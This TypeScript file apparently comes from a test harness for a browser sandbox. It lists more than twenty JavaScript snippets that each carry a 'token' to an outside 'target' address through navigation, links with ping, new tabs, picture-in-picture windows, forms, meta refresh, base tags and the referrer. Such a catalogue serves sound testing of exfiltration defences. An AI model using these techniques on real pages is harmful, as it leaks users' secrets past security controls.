import { address, blob, type Escape, element, named, quietly, wait } from '../escape'

const anchor = (properties: string) => `${element('a', `{ ${properties} }`)}.click()`
const form = (properties: string, send: 'submit' | 'requestSubmit' = 'submit') => `
  const form = ${element('form', `{ ${properties} }`)}
  form.append(Object.assign(document.createElement('input'), { name: 'q', value: token }))
  form.${send}()`

/** Going somewhere: the page itself, a new tab, a window on top. */
export const navigation: readonly Escape[] = [
  { name: 'location', short: true, code: `location.href = ${address}` },
  { name: 'location replaced', code: `location.replace(${address})` },
  { name: 'navigation.navigate', code: `await navigation.navigate(${address}).finished` },
  { name: 'location, name of the host', only: 'elsewhere', names: true, code: `location.href = ${named}` },
  { name: 'link', short: true, code: anchor(`href: ${address}`) },
  { name: 'link in a new tab', short: true, code: anchor(`href: ${address}, target: '_blank'`) },
  { name: 'link with ping', short: true, code: anchor(`href: '#z', ping: ${address}`) },
  { name: 'download link', short: true, code: anchor(`href: ${address}, download: 'f'`) },
  { name: 'window.open', short: true, code: `window.open(${address})` },
  {
    name: 'fetch inside an empty tab',
    short: true,
    code: `const tab = window.open('about:blank'); ${wait(300)}; await tab.fetch(${address}, ${quietly})`,
  },
  {
    name: 'fetch inside a tab with an error of the own host',
    code: `const tab = window.open('/no-such-page'); ${wait(1500)}; await tab.fetch(${address}, ${quietly})`,
  },
  { name: 'empty tab that goes on', code: `const tab = window.open('about:blank'); ${wait(200)}; tab.location = ${address}` },
  {
    name: 'fetch inside a window on top',
    alone: true,
    code: `const tab = await documentPictureInPicture.requestWindow(); await tab.fetch(${address}, ${quietly})`,
  },
  {
    name: 'page in a blob',
    code: `const html = '<script>fetch("' + ${address} + '", { mode: "no-cors" })</' + 'script><img src="' + target + '/i.png?' + token + '">'
      location.href = ${blob('html', 'text/html')}`,
  },
  { name: 'form as a query', code: form(`action: target + '/x'`) },
  { name: 'form', short: true, code: form(`action: target + '/x', method: 'post'`) },
  { name: 'form in a new tab', code: form(`action: target + '/x', method: 'post', target: '_blank'`, 'requestSubmit') },
  { name: 'form, name of the host', only: 'elsewhere', names: true, code: form(`action: ${named}, method: 'post'`) },
  {
    name: 'meta refresh',
    short: true,
    code: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + ${address} }))`,
  },
  {
    name: 'another base',
    code: `document.head.append(Object.assign(document.createElement('base'), { href: target + '/b/' }))
      ${element('img', `{ src: 'x.png?' + token }`)}`,
  },
  { name: 'address after reload', short: true, only: 'home', code: `history.pushState(0, '', '/?' + token); location.reload()` },
  {
    name: 'address as referrer',
    only: 'home',
    code: `history.pushState(0, '', '/?' + token)
      new Image().src = '/icons/no-such-icon.png'
      await fetch('/', { cache: 'reload' })`,
  },
]
